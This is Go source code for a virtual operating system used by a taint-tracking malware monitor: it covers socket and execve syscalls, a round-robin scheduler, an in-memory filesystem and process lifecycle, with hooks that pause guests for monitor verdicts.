		}
		sc.Result = uint32(n)
		ret(p, uint32(n))
		p.notifyExit(sc)

	case SockBind:
		fdn := int(a(0))
		addrPtr := a(1)
		addr := p.CPU.Mem.CString(addrPtr)
		fd, ok := p.FD(fdn)
		if !ok {
			ret(p, errno(EBADF))
			return
		}
		sock := &SockInfo{Call: SockBind, FD: fdn, Addr: addr, AddrPtr: addrPtr, AddrLen: uint32(len(addr))}
		sc := &SyscallCtx{Num: SysSocketcall, Name: "SYS_socketcall", Args: args, Des: fd, Sock: sock}
		if !p.notifyEnter(sc) {
			return
		}
		l, err := k.os.Net.Bind(addr)
		if err != nil {
			ret(p, errno(EINVAL))
			sc.Result = errno(EINVAL)
			p.notifyExit(sc)
			return
		}
		fd.Kind = FDListener
		fd.listener = l
		fd.Path = addr
		ret(p, 0)
		p.notifyExit(sc)

	case SockListen:
		fdn := int(a(0))
		fd, ok := p.FD(fdn)
		if !ok || fd.Kind != FDListener {
			ret(p, errno(EINVAL))
			return
		}
		ret(p, 0)

	case SockConnect:
		fdn := int(a(0))
		addrPtr := a(1)
		addr := p.CPU.Mem.CString(addrPtr)
		fd, ok := p.FD(fdn)
		if !ok {
			ret(p, errno(EBADF))
			return
		}
		sock := &SockInfo{Call: SockConnect, FD: fdn, Addr: addr, AddrPtr: addrPtr, AddrLen: uint32(len(addr))}
		sc := &SyscallCtx{Num: SysSocketcall, Name: "SYS_socketcall", Args: args, Des: fd, Sock: sock}
		if !p.notifyEnter(sc) {
			return
		}
		conn, err := k.dial(addr)
		if err != nil {
			ret(p, errno(ECONN))
			sc.Result = errno(ECONN)
			p.notifyExit(sc)
			return
		}
		fd.conn = conn
		fd.Path = addr
		ret(p, 0)
		p.notifyExit(sc)

	case SockAccept:
		fdn := int(a(0))
		fd, ok := p.FD(fdn)
		if !ok || fd.Kind != FDListener || fd.listener == nil {
			ret(p, errno(EINVAL))
			return
		}
		l := fd.listener
		attempt := func() bool {
			if len(l.pending) == 0 {
				return false
			}
			conn := l.pending[0]
			sock := &SockInfo{Call: SockAccept, FD: fdn, Addr: conn.RemoteAddr}
			nfd := &FDesc{
				Kind: FDSock, Path: conn.RemoteAddr, conn: conn,
				Server: true, ServerAddr: l.Addr,
				ServerOriginTag: fd.OriginTag,
			}
			sock.Accepted = nfd
			sc := &SyscallCtx{Num: SysSocketcall, Name: "SYS_socketcall", Args: args, Des: fd, Sock: sock}
			if !p.notifyEnter(sc) {
				return true
			}
			l.pending = l.pending[1:]
			n := p.allocFD(nfd)
			if n < 0 {
				conn.Close() // peer observes EOF on the refused connection
				ret(p, errno(EMFILE))
				sc.Result = errno(EMFILE)
				p.notifyExit(sc)
				return true
			}
			sc.Result = uint32(n)
			ret(p, uint32(n))
			p.notifyExit(sc)
			return true
		}
		p.block(attempt)

	case SockSend:
		fdn := int(a(0))
		fd, ok := p.FD(fdn)
		if !ok {
			ret(p, errno(EBADF))
			return
		}
		sock := &SockInfo{Call: SockSend, FD: fdn, Buf: a(1), Len: a(2)}
		k.writeCommon(p, fd, sock, args, a(1), a(2))

	case SockRecv:
		fdn := int(a(0))
		fd, ok := p.FD(fdn)
		if !ok {
			ret(p, errno(EBADF))
			return
		}
		sock := &SockInfo{Call: SockRecv, FD: fdn, Buf: a(1), Len: a(2)}
		k.recvCommon(p, fd, sock, args, a(1), a(2))

	default:
		ret(p, errno(EINVAL))
	}
}

// dial connects to addr, resolving a hostname prefix via the network
// hosts table when the literal endpoint is unknown.
func (k *kernel) dial(addr string) (*Conn, error) {
	if conn, err := k.os.Net.Connect(addr); err == nil {
		return conn, nil
	}
	if i := strings.LastIndex(addr, ":"); i > 0 {
		if ip, ok := k.os.Net.ResolveHost(addr[:i]); ok {
			return k.os.Net.Connect(ip + addr[i:])
		}
	}
	return k.os.Net.Connect(addr) // return the original error
}

func (k *kernel) sysExecve(p *Process, args [5]uint32) {
	pathPtr, argvPtr, envPtr := args[0], args[1], args[2]
	path := p.CPU.Mem.CString(pathPtr)
	sc := &SyscallCtx{
		Num: SysExecve, Name: "SYS_execve", Args: args,
		Path: path, PathPtr: pathPtr, PathLen: uint32(len(path)),
	}
	if !p.notifyEnter(sc) {
		return
	}
	f, ok := k.os.FS.Lookup(path)
	if !ok {
		ret(p, errno(ENOENT))
		sc.Result = errno(ENOENT)
		p.notifyExit(sc)
		return
	}
	if f.Image == nil {
		// A plain file gets one chance to decode through the format
		// frontends (a dropped real ELF payload execs for real). The
		// paper's Tic-Tac-Toe trojan lands in the failure branch: its
		// written payload is not in any executable format, so the
		// execve itself fails — after the warning fired (§8.4.3).
		img, derr := image.Decode(path, f.Data)
		if derr != nil || !img.HasEntry() {
			ret(p, errno(ENOEXEC))
			sc.Result = errno(ENOEXEC)
			p.notifyExit(sc)
			return
		}
		f.Image = img
	}
	argv := p.readStringArray(argvPtr)
	if len(argv) == 0 {
		argv = []string{path}
	}
	env := p.readStringArray(envPtr)

	// Replace the address space. Monitors that cache state keyed to
	// the outgoing code spans get a last look while they are still
	// mapped (Harrier drops its compiled block summaries here).
	if pre, ok := p.Monitor.(PreExecMonitor); ok {
		pre.PreExec(p)
	}
	p.Path = path
	p.Argv = argv
	p.Env = env
	p.CPU.Mem.Reset()
	if p.CPU.Shadow != nil {
		p.CPU.Shadow.Reset()
	}
	p.CPU.Code.Reset()
	p.CPU.Natives = nil
	p.CPU.Regs = [isa.NumRegs]uint32{}
	p.CPU.RegTags = [isa.NumRegs]taint.Tag{}
	p.Images = loader.NewMap()
	p.StartClock = k.os.Clock
	if err := k.os.loadInto(p, f); err != nil {
		p.terminate(-1, false, err)
		return
	}
	p.setupStack()
	p.CPU.SetPC(p.CPU.EIP)
	if p.Monitor != nil {
		p.Monitor.Execed(p)
	}
	sc.Result = 0
	p.notifyExit(sc)
}

// readStringArray reads a NULL-terminated array of string pointers.
func (p *Process) readStringArray(ptr uint32) []string {
	if ptr == 0 {
		return nil
	}
	var out []string
	for i := uint32(0); i < 256; i++ {
		sp := p.CPU.Mem.Load32(ptr + 4*i)
		if sp == 0 {
			break
		}
		out = append(out, p.CPU.Mem.CString(sp))
	}
	return out
}

func (k *kernel) sysWaitpid(p *Process, args [5]uint32) {
	want := int32(args[0])
	statusPtr := args[1]
	attempt := func() bool {
		pid, code, found := p.takeZombie(want)
		if !found {
			if p.children == 0 {
				ret(p, errno(ECHILD))
				return true
			}
			return false
		}
		if statusPtr != 0 {
			p.CPU.Mem.Store32(statusPtr, uint32(code)<<8)
		}
		ret(p, uint32(pid))
		return true
	}
	p.block(attempt)
}

func (p *Process) takeZombie(want int32) (pid int, code int32, found bool) {
	if want > 0 {
		code, ok := p.zombies[int(want)]
		if !ok {
			return 0, 0, false
		}
		delete(p.zombies, int(want))
		return int(want), code, true
	}
	best := -1
	for z := range p.zombies {
		if best < 0 || z < best {
			best = z
		}
	}
	if best < 0 {
		return 0, 0, false
	}
	code = p.zombies[best]
	delete(p.zombies, best)
	return best, code, true
}

func (k *kernel) sysBrk(p *Process, args [5]uint32) {
	if p.brk == 0 {
		p.brk = 0x20000000
	}
	if args[0] != 0 {
		sc := &SyscallCtx{Num: SysBrk, Name: "SYS_brk", Args: args, Prev: p.brk}
		if !p.notifyEnter(sc) {
			return
		}
		p.brk = args[0]
		sc.Result = p.brk
		p.notifyExit(sc)
	}
	ret(p, p.brk)
}

func (k *kernel) sysNanosleep(p *Process, args [5]uint32) {
	wake := k.os.Clock + uint64(args[0])
	attempt := func() bool {
		return k.os.Clock >= wake
	}
	p.block(attempt)
	ret(p, 0)
}
