// Package vos is the virtual OS under monitored runs.
//
// Reentrancy: the package is reentrant but an OS instance is not. All
// package-level state is immutable (sentinel errors and constants),
// so any number of OS instances may run concurrently on different
// goroutines — the analysis service's worker shards and the corpus
// sweeps rely on exactly this. A single OS holds freely-mutated
// scheduler, filesystem, and process state with no internal locking;
// everything that touches one instance must stay on one goroutine at
// a time (the hth.System busy guard enforces this at the API edge).
package vos

import (
	"errors"
	"fmt"
	"time"

	"repro/internal/image"
	"repro/internal/isa"
	"repro/internal/loader"
	"repro/internal/obs"
	"repro/internal/taint"
)

// Scheduler errors.
var (
	// ErrDeadlock means every live process is blocked with nothing
	// that could unblock it.
	ErrDeadlock = errors.New("vos: deadlock — all processes blocked")
	// ErrBudget means the run exceeded its instruction budget.
	ErrBudget = errors.New("vos: instruction budget exhausted")
	// ErrDeadline means the run exceeded its wall-clock deadline.
	ErrDeadline = errors.New("vos: wall-clock deadline exceeded")
)

// MaxRWCount caps the byte count of a single read or write syscall,
// like Linux's MAX_RW_COUNT: a larger request is silently clamped and
// the syscall returns the short count. The guard matters for writes,
// where the length is guest-controlled — a guest that passes an errno
// as a length (write(1, buf, -EIO)) asks for a ~4 GiB transfer, and
// without the clamp the kernel would materialize that request as host
// memory. 1 MiB is orders of magnitude above any legitimate corpus
// transfer.
const MaxRWCount = 1 << 20

// DefaultMaxConsoleBytes is the console capture budget applied when
// Options.MaxConsoleBytes is zero. Output past the budget is counted
// in OS.ConsoleDropped instead of stored, so a guest spinning in a
// write loop cannot grow host memory without bound.
const DefaultMaxConsoleBytes = 4 << 20

// DefaultMaxOpenFDs is the per-process descriptor budget applied when
// Options.MaxOpenFDs is zero. Generous enough for every corpus guest;
// small enough that a descriptor-leaking guest degrades into EMFILE
// errors instead of unbounded host memory growth.
const DefaultMaxOpenFDs = 1024

// Options tune a virtual machine.
type Options struct {
	// StepsPerSlice is the scheduler quantum in instructions.
	StepsPerSlice int
	// MaxSteps caps total executed instructions across all processes
	// (a runaway-guest backstop, not a scheduling parameter).
	MaxSteps uint64
	// Deadline bounds a Run call in host wall-clock time; when
	// exceeded, Run returns ErrDeadline. Zero disables the deadline.
	Deadline time.Duration
	// MaxOpenFDs caps open descriptors per process; further
	// allocations fail with EMFILE. Zero selects DefaultMaxOpenFDs;
	// negative disables the cap.
	MaxOpenFDs int
	// MaxConsoleBytes caps the bytes retained in OS.Console (and the
	// per-process Stdout captures); overflow is counted in
	// ConsoleDropped. Zero selects DefaultMaxConsoleBytes; negative
	// disables the cap.
	MaxConsoleBytes int
}

func (o *Options) defaults() {
	if o.StepsPerSlice == 0 {
		o.StepsPerSlice = 128
	}
	if o.MaxSteps == 0 {
		o.MaxSteps = 50_000_000
	}
	if o.MaxOpenFDs == 0 {
		o.MaxOpenFDs = DefaultMaxOpenFDs
	}
	if o.MaxConsoleBytes == 0 {
		o.MaxConsoleBytes = DefaultMaxConsoleBytes
	}
}

// OS is one virtual machine: filesystem, network, process table,
// scheduler and virtual clock (which advances one tick per executed
// guest instruction).
type OS struct {
	FS  *FS
	Net *Network

	// Natives is the registry of host-implemented library routines
	// bound by the loader (guestlib populates it).
	Natives map[string]func(*isa.CPU)

	Clock      uint64
	TotalSteps uint64

	// Console accumulates all stdout/stderr writes across processes,
	// up to the MaxConsoleBytes budget.
	Console []byte
	// ConsoleDropped counts console bytes discarded past the budget.
	ConsoleDropped uint64

	procs map[int]*Process
	// procList mirrors procs in PID order (PIDs are monotonic and
	// processes are never removed, so appends keep it sorted). The
	// scheduler iterates it directly instead of re-sorting the map
	// every 128-instruction round.
	procList []*Process
	nextPID  int
	opts     Options
	kern     *kernel
	inject   FaultInjector
	bus      *obs.Bus
}

// New creates an empty virtual machine.
func New(opts Options) *OS {
	opts.defaults()
	os := &OS{
		FS:      NewFS(),
		Net:     NewNetwork(),
		Natives: make(map[string]func(*isa.CPU)),
		procs:   make(map[int]*Process),
		nextPID: 1,
		opts:    opts,
	}
	os.kern = &kernel{os: os}
	return os
}

// Process returns the process with the given pid.
func (os *OS) Process(pid int) (*Process, bool) {
	p, ok := os.procs[pid]
	return p, ok
}

// Processes returns all processes (including exited) in pid order.
func (os *OS) Processes() []*Process {
	out := make([]*Process, len(os.procList))
	copy(out, os.procList)
	return out
}

// addProc registers a process in the table and the scheduler list
// (the single entry point for both StartProcess and fork/clone).
func (os *OS) addProc(p *Process) {
	os.procs[p.PID] = p
	os.procList = append(os.procList, p)
	if os.bus != nil {
		os.bus.Publish(obs.Event{
			Time: os.Clock, Layer: obs.LayerVOS, Kind: obs.KindProcSpawn,
			PID: int32(p.PID), Num: uint64(p.PPID), Str: p.Path,
		})
	}
}

// SetBus attaches (or, with nil, detaches) the observability bus.
// Kernel, scheduler, and process-lifecycle events publish into it.
func (os *OS) SetBus(b *obs.Bus) { os.bus = b }

// LiveCount returns the number of non-exited processes.
func (os *OS) LiveCount() int {
	n := 0
	for _, p := range os.procs {
		if p.Alive() {
			n++
		}
	}
	return n
}

// loaderEnv builds the loader environment resolving shared objects
// from the filesystem (shared objects are installed under their soname
// path, e.g. "libc.so").
func (os *OS) loaderEnv() *loader.Env {
	return &loader.Env{
		Resolve: func(name string) (*image.Image, error) {
			f, ok := os.FS.Lookup(name)
			if !ok || f.Image == nil {
				return nil, fmt.Errorf("vos: shared object %s not found", name)
			}
			return f.Image, nil
		},
		Natives: os.Natives,
	}
}

// ProcSpec describes a process to start.
type ProcSpec struct {
	Path  string
	Argv  []string // argv[0] defaults to Path
	Env   []string
	Stdin []byte
	// Monitor, when set, receives all events for this process and its
	// descendants; Store must then also be set (the taint store the
	// monitor tags with).
	Monitor Monitor
	Store   *taint.Store
}

// StartProcess creates a process running the executable at spec.Path.
func (os *OS) StartProcess(spec ProcSpec) (*Process, error) {
	f, ok := os.FS.Lookup(spec.Path)
	if !ok {
		return nil, fmt.Errorf("vos: %s: no such file", spec.Path)
	}
	if f.Image == nil && len(f.Data) == 0 {
		return nil, fmt.Errorf("vos: %s: not an executable", spec.Path)
	}
	argv := spec.Argv
	if len(argv) == 0 {
		argv = []string{spec.Path}
	}

	p := &Process{
		PID:        os.nextPID,
		PPID:       0,
		OS:         os,
		CPU:        isa.NewCPU(),
		Images:     loader.NewMap(),
		FDs:        make(map[int]*FDesc),
		Path:       spec.Path,
		Argv:       argv,
		Env:        spec.Env,
		StartClock: os.Clock,
		Monitor:    spec.Monitor,
		stdin:      spec.Stdin,
		zombies:    make(map[int]int32),
	}
	os.nextPID++
	p.CPU.Ctx = p
	p.CPU.Sys = os.kern
	if spec.Monitor != nil {
		if spec.Store == nil {
			return nil, fmt.Errorf("vos: monitored process needs a taint store")
		}
		p.CPU.Shadow = taint.NewShadow(spec.Store)
	}
	if err := os.loadInto(p, f); err != nil {
		return nil, err
	}
	p.setupStack()
	p.installStdio()
	os.addProc(p)
	if p.Monitor != nil {
		p.Monitor.Started(p)
	}
	return p, nil
}

// loadInto loads the executable file (and its imports) into p and
// points EIP at the entry. Pre-decoded files (Install/InstallBinary)
// map directly; a plain file's bytes go through the format-agnostic
// loader.Open (magic sniffing over the registered frontends) and the
// decode is cached on the file — this is what lets a guest drop a
// real ELF payload and exec it.
func (os *OS) loadInto(p *Process, f *File) error {
	var li *loader.Loaded
	var err error
	if f.Image != nil {
		li, err = p.Images.Load(p.CPU, f.Image, os.loaderEnv())
	} else {
		li, err = p.Images.Open(p.CPU, f.Path, f.Data, os.loaderEnv())
		if err == nil {
			f.Image = li.Image
		}
	}
	if err != nil {
		return err
	}
	entry, err := li.EntryAddr()
	if err != nil {
		return err
	}
	p.CPU.EIP = entry
	return nil
}

// Run schedules processes round-robin until every process has exited,
// the instruction budget is exhausted, the wall-clock deadline passes,
// or a deadlock is detected.
func (os *OS) Run() error {
	idleRounds := 0
	sps := os.opts.StepsPerSlice
	var deadline time.Time
	if os.opts.Deadline > 0 {
		deadline = time.Now().Add(os.opts.Deadline)
	}
	rounds := 0
	for {
		// The deadline is a coarse backstop: checking every 64 rounds
		// (~8k instructions) keeps time.Now off the hot loop.
		if rounds++; rounds&63 == 0 && !deadline.IsZero() && time.Now().After(deadline) {
			return os.schedEnd(ErrDeadline)
		}
		os.Net.Tick(os.Clock)
		progressed := false
		anyAlive := false
		// Snapshot the length: children forked this round first run
		// next round, exactly as when the table was re-sorted per round.
		n := len(os.procList)
		for _, p := range os.procList[:n] {
			switch p.State {
			case Exited:
				continue
			case Blocked:
				anyAlive = true
				if !p.blockFn() {
					continue
				}
				p.blockFn = nil
				progressed = true
				if os.bus != nil {
					os.bus.Publish(obs.Event{
						Time: os.Clock, Layer: obs.LayerVOS,
						Kind: obs.KindSchedUnblock, PID: int32(p.PID),
					})
				}
				if !p.Alive() {
					// The unblocking action terminated it (a monitor
					// kill delivered to the completing call): the
					// exited state must survive, or the quantum below
					// would re-terminate it as a clean exit and
					// overwrite the kill.
					continue
				}
				p.State = Ready
			default:
				anyAlive = true
			}
			// Run one quantum. A CPU halted by HLT (without exit())
			// keeps State == Ready; the next Step returns ErrHalted
			// and terminates it as an implicit clean exit, so the
			// loop needs no per-instruction Halted check. One Step may
			// retire several instructions when a compiled trace runs
			// (Hooks.OnBBSummary returning SummaryTrace), so the
			// quantum is accounted from the Steps delta, with
			// TraceBudget capping a trace at the slice remainder —
			// slices stay exactly StepsPerSlice instructions long in
			// every tier.
			cpu := p.CPU
			ran := 0
			for ran < sps && p.State == Ready {
				cpu.TraceBudget = sps - ran
				before := cpu.Steps
				if err := cpu.Step(); err != nil {
					if err == isa.ErrHalted {
						p.terminate(0, false, nil)
					} else {
						p.terminate(-1, false, err)
					}
					break
				}
				d := int(cpu.Steps - before)
				os.Clock += uint64(d)
				ran += d
			}
			if ran > 0 {
				os.TotalSteps += uint64(ran)
				progressed = true
			}
		}
		if !anyAlive {
			return os.schedEnd(nil)
		}
		if os.TotalSteps > os.opts.MaxSteps {
			return os.schedEnd(ErrBudget)
		}
		if progressed {
			idleRounds = 0
			continue
		}
		// Everyone is blocked: advance virtual time so sleepers and
		// scheduled network events can fire.
		os.Clock += 1000
		idleRounds++
		if idleRounds > 20000 {
			return os.schedEnd(ErrDeadlock)
		}
	}
}

// schedEnd publishes the scheduler outcome and passes err through.
func (os *OS) schedEnd(err error) error {
	if os.bus != nil {
		outcome := "clean"
		switch err {
		case ErrDeadlock:
			outcome = "deadlock"
		case ErrBudget:
			outcome = "budget"
		case ErrDeadline:
			outcome = "deadline"
		}
		os.bus.Publish(obs.Event{
			Time: os.Clock, Layer: obs.LayerVOS, Kind: obs.KindSchedEnd,
			Num: os.TotalSteps, Str: outcome,
		})
	}
	return err
}

// SetMaxSteps adjusts the total instruction budget.
func (os *OS) SetMaxSteps(n uint64) {
	if n > 0 {
		os.opts.MaxSteps = n
	}
}

// SetStepsPerSlice adjusts the scheduler quantum for subsequent Run
// calls. Throughput-oriented callers (the §9 perf benches) raise it so
// per-slice dispatch overhead — and the interpreted tail of a slice
// too short to fit a compiled trace — amortizes over more guest work;
// interactive fairness wants it low, batch throughput wants it high.
func (os *OS) SetStepsPerSlice(n int) {
	if n > 0 {
		os.opts.StepsPerSlice = n
	}
}

// SetDeadline adjusts the wall-clock budget of subsequent Run calls
// (0 disables it).
func (os *OS) SetDeadline(d time.Duration) { os.opts.Deadline = d }

// SetMaxOpenFDs adjusts the per-process descriptor budget (0 keeps the
// current value, negative disables the cap).
func (os *OS) SetMaxOpenFDs(n int) {
	if n != 0 {
		os.opts.MaxOpenFDs = n
	}
}

// maxOpenFDs returns the effective per-process descriptor cap, or a
// negative value when uncapped.
func (os *OS) maxOpenFDs() int { return os.opts.MaxOpenFDs }

// SetMaxConsoleBytes adjusts the console capture budget (0 keeps the
// current value, negative disables the cap).
func (os *OS) SetMaxConsoleBytes(n int) {
	if n != 0 {
		os.opts.MaxConsoleBytes = n
	}
}

// appendConsole adds guest output to the global console and the
// process's own capture, honouring the console byte budget: bytes
// past the budget are counted in ConsoleDropped, not stored, so a
// guest spinning in a write loop cannot grow host memory without
// bound.
func (os *OS) appendConsole(p *Process, data []byte) {
	if budget := os.opts.MaxConsoleBytes; budget > 0 {
		room := budget - len(os.Console)
		if room < 0 {
			room = 0
		}
		if len(data) > room {
			os.ConsoleDropped += uint64(len(data) - room)
			data = data[:room]
		}
	}
	os.Console = append(os.Console, data...)
	p.Stdout = append(p.Stdout, data...)
}

// RunFor runs until done or approximately n more instructions execute.
func (os *OS) RunFor(n uint64) error {
	saved := os.opts.MaxSteps
	os.opts.MaxSteps = os.TotalSteps + n
	err := os.Run()
	os.opts.MaxSteps = saved
	if err == ErrBudget {
		return nil
	}
	return err
}
