// Package vos implements the virtual operating system the HTH
// simulator runs guests on: processes with isolated address spaces, a
// round-robin scheduler with a virtual clock, an in-memory filesystem,
// a simulated network with scriptable remote peers, and a Linux-i386
// style system-call surface (including the socketcall multiplexer the
// paper's Harrier tracks, §7.1–§7.2).
//
// The OS exposes a Monitor interface: Harrier attaches to a process
// tree and is notified synchronously before each tracked system call
// takes effect, exactly once per completed call — the guest is paused
// until the monitor's verdict arrives (paper §7.1: "Harrier will
// interrupt the execution of the program and wait until Secpert
// analysis is done").
package vos

import (
	"fmt"
	"sort"

	"repro/internal/image"
)

// File is one filesystem object: a byte store, optionally backed by a
// loadable image (executables).
type File struct {
	Path  string
	Data  []byte
	Image *image.Image // non-nil for executable files
}

// FS is a flat in-memory filesystem.
type FS struct {
	files map[string]*File
}

// NewFS returns an empty filesystem.
func NewFS() *FS {
	return &FS{files: make(map[string]*File)}
}

// Create adds (or truncates) a plain file with the given contents.
func (fs *FS) Create(path string, data []byte) *File {
	f := &File{Path: path, Data: append([]byte(nil), data...)}
	fs.files[path] = f
	return f
}

// Install places an executable image at path.
func (fs *FS) Install(path string, img *image.Image) *File {
	f := &File{Path: path, Image: img}
	fs.files[path] = f
	return f
}

// InstallBinary places an executable at path from its raw bytes,
// decoding them through the registered format frontends (ELF sniffed
// by magic, assembly text as the fallback). The bytes stay on the
// file, so guests can read the binary back. Decode failures are
// returned unchanged: structural ones wrap image.ErrBadImage, text
// compile diagnostics come back as-is.
func (fs *FS) InstallBinary(path string, data []byte) (*File, error) {
	img, err := image.Decode(path, data)
	if err != nil {
		return nil, err
	}
	f := &File{Path: path, Data: append([]byte(nil), data...), Image: img}
	fs.files[path] = f
	return f, nil
}

// InstallDecoded places an executable at path from its raw bytes plus
// an image the caller already decoded from exactly those bytes,
// skipping the decode InstallBinary would repeat. Images are immutable
// after load, so sharing one across files (or guest worlds) is safe.
func (fs *FS) InstallDecoded(path string, data []byte, img *image.Image) *File {
	f := &File{Path: path, Data: append([]byte(nil), data...), Image: img}
	fs.files[path] = f
	return f
}

// Lookup finds a file by path.
func (fs *FS) Lookup(path string) (*File, bool) {
	f, ok := fs.files[path]
	return f, ok
}

// Remove deletes a file.
func (fs *FS) Remove(path string) {
	delete(fs.files, path)
}

// Paths returns all file paths in sorted order.
func (fs *FS) Paths() []string {
	out := make([]string, 0, len(fs.files))
	for p := range fs.files {
		out = append(out, p)
	}
	sort.Strings(out)
	return out
}

// Listing renders a directory-style listing of every path; the ls
// corpus program reads this through the "." pseudo-file.
func (fs *FS) Listing() []byte {
	var out []byte
	for _, p := range fs.Paths() {
		out = append(out, p...)
		out = append(out, '\n')
	}
	return out
}

// Errno values (negated Linux convention: syscalls return -errno).
const (
	ENOENT     = 2
	EIO        = 5
	EBADF      = 9
	ECHILD     = 10
	ENOMEM     = 12
	EACCES     = 13
	EINVAL     = 22
	ENFILE     = 23
	EMFILE     = 24
	ENOEXEC    = 8
	ECONNABORT = 103 // ECONNABORTED
	ECONN      = 111 // ECONNREFUSED
)

func errno(e uint32) uint32 { return -e }

// open flags, matching the Linux i386 ABI subset the guests use.
const (
	ORdOnly = 0x0
	OWrOnly = 0x1
	ORdWr   = 0x2
	OCreat  = 0x40
	OTrunc  = 0x200
	OAppend = 0x400
)

func openErr(path string, e uint32) error {
	return fmt.Errorf("vos: open %s: errno %d", path, e)
}
