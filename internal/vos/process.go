package vos

import (
	"fmt"

	"repro/internal/isa"
	"repro/internal/loader"
	"repro/internal/obs"
	"repro/internal/taint"
)

// ProcState is a process's scheduler state.
type ProcState uint8

// Process states.
const (
	Ready ProcState = iota
	Blocked
	Exited
)

// stack layout constants: the initial stack holds argc, a pointer to
// the argv pointer array, and a pointer to the envp pointer array at
// [esp], [esp+4] and [esp+8]; string data sits above. Everything on
// the initial stack is tagged USER_INPUT (paper §7.3.3).
const (
	stackTop  = 0xBFFF0000
	stackArea = 0x00020000
)

// Process is one guest process.
type Process struct {
	PID  int
	PPID int
	OS   *OS
	CPU  *isa.CPU

	Images *loader.Map
	FDs    map[int]*FDesc
	nextFD int

	State   ProcState
	blockFn func() bool

	Path       string
	Argv       []string
	Env        []string
	StartClock uint64

	ExitCode int32
	Killed   bool
	Fault    error

	Monitor Monitor

	stdin    []byte
	stdinOff int
	Stdout   []byte // per-process capture; writes also land on OS.Console

	zombies  map[int]int32 // exited children awaiting waitpid
	children int           // living children
	brk      uint32
}

// Monitored reports whether a monitor (Harrier) is attached.
func (p *Process) Monitored() bool { return p.Monitor != nil }

// Alive reports whether the process has not exited.
func (p *Process) Alive() bool { return p.State != Exited }

// Clock returns the OS virtual clock.
func (p *Process) Clock() uint64 { return p.OS.Clock }

// Age returns virtual ticks since the program started (execve resets
// it: a new program began).
func (p *Process) Age() uint64 { return p.OS.Clock - p.StartClock }

// allocFD installs a descriptor at the next free number, or returns
// -1 when the process is at its open-descriptor budget (the caller
// fails the call with EMFILE).
func (p *Process) allocFD(fd *FDesc) int {
	if limit := p.OS.maxOpenFDs(); limit > 0 && len(p.FDs) >= limit {
		return -1
	}
	n := p.nextFD
	p.nextFD++
	p.FDs[n] = fd
	if bus := p.OS.bus; bus != nil {
		bus.Publish(obs.Event{
			Time: p.OS.Clock, Layer: obs.LayerVOS, Kind: obs.KindFDOpen,
			PID: int32(p.PID), Num: uint64(n),
			Str: fd.Path, Str2: fd.Kind.String(),
		})
	}
	return n
}

// FD returns the descriptor for number n.
func (p *Process) FD(n int) (*FDesc, bool) {
	fd, ok := p.FDs[n]
	return fd, ok
}

// block parks the process on attempt until it returns true. If the
// attempt succeeds immediately the process never blocks.
func (p *Process) block(attempt func() bool) {
	if attempt() {
		return
	}
	p.State = Blocked
	p.blockFn = attempt
	if bus := p.OS.bus; bus != nil {
		bus.Publish(obs.Event{
			Time: p.OS.Clock, Layer: obs.LayerVOS, Kind: obs.KindSchedBlock,
			PID: int32(p.PID),
		})
	}
}

// notifyEnter delivers the pre-execution event to the monitor,
// returning false when the verdict killed the process. It also
// publishes the syscall.enter bus event — for every tracked call,
// monitored or not.
func (p *Process) notifyEnter(sc *SyscallCtx) bool {
	if bus := p.OS.bus; bus != nil {
		bus.Publish(obs.Event{
			Time: p.OS.Clock, Layer: obs.LayerVOS, Kind: obs.KindSyscallEnter,
			PID: int32(p.PID), Num: uint64(sc.Num), Str: sc.Name, Str2: sc.Path,
		})
	}
	if p.Monitor == nil {
		return true
	}
	if p.Monitor.SyscallEnter(p, sc) == Kill {
		p.terminate(-1, true, nil)
		return false
	}
	return true
}

// notifyTaintSource tells a TaintSourceMonitor (when the monitor is
// one) that sc is about to deposit externally-sourced data into p's
// memory — the clean tier's re-instrumentation boundary.
func (p *Process) notifyTaintSource(sc *SyscallCtx) {
	if m, ok := p.Monitor.(TaintSourceMonitor); ok {
		m.TaintSource(p, sc)
	}
}

func (p *Process) notifyExit(sc *SyscallCtx) {
	if bus := p.OS.bus; bus != nil {
		bus.Publish(obs.Event{
			Time: p.OS.Clock, Layer: obs.LayerVOS, Kind: obs.KindSyscallExit,
			PID: int32(p.PID), Num: uint64(sc.Num), Num2: uint64(sc.Result),
			Str: sc.Name,
		})
	}
	if p.Monitor != nil {
		p.Monitor.SyscallExit(p, sc)
	}
}

// terminate ends the process: exit(), a monitor Kill, or a fault.
func (p *Process) terminate(code int32, killed bool, fault error) {
	if p.State == Exited {
		return
	}
	p.State = Exited
	p.ExitCode = code
	p.Killed = killed
	p.Fault = fault
	p.CPU.Halt()
	if bus := p.OS.bus; bus != nil {
		how := "exit"
		switch {
		case killed:
			how = "kill"
		case fault != nil:
			how = "fault"
		}
		bus.Publish(obs.Event{
			Time: p.OS.Clock, Layer: obs.LayerVOS, Kind: obs.KindProcExit,
			PID: int32(p.PID), Num: uint64(uint32(code)), Str: how,
		})
	}
	// Close descriptors so peers and readers observe EOF and bound
	// listeners free their addresses.
	for n, fd := range p.FDs {
		p.closeFD(n, fd)
	}
	// Reparent: zombies of this process are discarded; the parent
	// collects this process.
	if parent, ok := p.OS.procs[p.PPID]; ok && parent.Alive() {
		parent.zombies[p.PID] = code
		parent.children--
	}
	if p.Monitor != nil {
		p.Monitor.Exited(p)
	}
}

func (p *Process) closeFD(n int, fd *FDesc) {
	if bus := p.OS.bus; bus != nil {
		bus.Publish(obs.Event{
			Time: p.OS.Clock, Layer: obs.LayerVOS, Kind: obs.KindFDClose,
			PID: int32(p.PID), Num: uint64(n), Str: fd.Path,
		})
	}
	switch fd.Kind {
	case FDSock:
		if fd.conn != nil {
			fd.conn.Close()
		}
	case FDListener:
		if fd.listener != nil {
			p.OS.Net.Unbind(fd.listener.Addr)
		}
	}
	delete(p.FDs, n)
}

// setupStack writes argc/argv/envp onto a fresh stack and tags every
// byte USER_INPUT (paper §7.3.3: "Harrier will tag all the initial
// stack with the USER INPUT data source").
func (p *Process) setupStack() {
	mem := p.CPU.Mem
	addr := uint32(stackTop - stackArea)

	var argvTag, envTag taint.Tag
	sh := p.CPU.Shadow
	if sh != nil {
		st := sh.Store()
		argvTag = st.Of(taint.Source{Type: taint.UserInput, Name: "argv"})
		envTag = st.Of(taint.Source{Type: taint.UserInput, Name: "env"})
	}
	tag := func(start, end uint32, t taint.Tag) {
		if sh != nil && end > start {
			sh.SetRange(start, end-start, t)
		}
	}

	writeStrings := func(items []string, t taint.Tag) []uint32 {
		start := addr
		ptrs := make([]uint32, len(items))
		for i, s := range items {
			ptrs[i] = addr
			addr += mem.WriteCString(addr, s)
		}
		tag(start, addr, t)
		return ptrs
	}
	argvPtrs := writeStrings(p.Argv, argvTag)
